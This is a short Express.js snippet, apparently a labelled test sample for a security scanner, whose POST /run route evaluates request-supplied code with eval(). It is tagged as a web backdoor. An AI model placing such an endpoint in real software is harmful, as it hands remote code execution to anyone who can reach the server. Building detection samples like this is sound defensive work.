const express = require('express');

const app = express();
app.post('/run', (request, response) => {
  response.json(eval(request.body.code)); // expect: malicious-command/web-backdoor
});
